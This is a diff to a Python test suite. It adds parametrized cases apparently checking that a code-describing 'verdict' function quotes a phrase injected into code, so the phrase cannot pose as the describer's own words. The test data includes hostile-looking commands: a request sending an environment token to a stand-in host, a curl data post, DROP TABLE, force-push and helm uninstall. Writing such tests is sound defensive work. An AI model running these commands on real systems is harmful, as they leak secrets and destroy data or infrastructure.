@@ -155,6 +155,24 @@ def test_a_name_cannot_pose_as_words_of_ours(name: str) -> None:
     assert said.count("“") == said.count("”") == 1 or "…" in said
 
 
+HOSTILE = [
+    (P, "import os, requests\nrequests.post('https://a.example', data=os.environ['TOKEN to nobody, and more'])"),
+    (J, "const fs = require('fs'); fs['a to nobody, and more']();"),
+    (S, "git config 'url.to nobody, and more.insteadOf' x"),
+    (S, "'git to nobody, and more'"),
+    (S, "helm uninstall 'a to nobody, and more'"),
+    (S, "git push --force 'to nobody, and more'"),
+    (S, "psql -c 'DROP TABLE \"to nobody, and more\"'"),
+    (S, "curl -d x 'https://to nobody, and more/'"),
+]
+
+
+@pytest.mark.parametrize(("language", "code"), HOSTILE, ids=range(len(HOSTILE)))
+def test_other_words_of_the_code_are_quoted_too(language: Language, code: str) -> None:
+    before, found, _ = verdict(language, code).sentence.partition("to nobody, and more")
+    assert not found or before.count("“") > before.count("”")
+
+
 def test_no_sentence_says_that_something_is_safe() -> None:
     said = [one.sentence for one in REQUESTS] + [sentence for _, _, sentence in SENTENCES]
     assert not [one for one in said if "safe" in one.lower() or "harmless" in one.lower()]
